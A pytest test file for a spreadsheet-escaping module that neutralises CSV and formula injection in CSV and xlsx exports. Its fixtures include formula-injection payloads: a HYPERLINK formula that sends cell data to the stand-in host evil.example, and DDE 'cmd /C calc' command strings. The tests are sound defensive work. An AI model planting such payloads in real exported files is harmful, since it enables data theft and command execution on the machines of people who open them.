import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from kompass.lib import spreadsheet


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
     "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)  # fmt: skip
def test_formulas_become_text(value):
    assert spreadsheet.safe_cell(value) == "'" + value
    assert spreadsheet.unescape_cell(spreadsheet.safe_cell(value)) == value


@pytest.mark.parametrize("value", ["+40 21 313 3100", "-3.5", "Iași", "", "it's = fine", 12, None, True])
def test_ordinary_values_are_unchanged(value):
    assert spreadsheet.safe_cell(value) == value


def test_csv_writer_escapes_every_cell():
    out = io.StringIO()
    spreadsheet.writer(out).writerow(["KMP-2026-00001", "=HYPERLINK(1)", 3])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["KMP-2026-00001", "'=HYPERLINK(1)", "3"]


def test_xlsx_rows_hold_text_not_formulas():
    book = Workbook()
    spreadsheet.append_xlsx_row(book.active, ["=1+1", "+40 21 313 3100", 5])
    buffer = io.BytesIO()
    book.save(buffer)
    cells = [c.value for c in load_workbook(io.BytesIO(buffer.getvalue())).active[1]]
    assert cells == ["'=1+1", "+40 21 313 3100", 5]
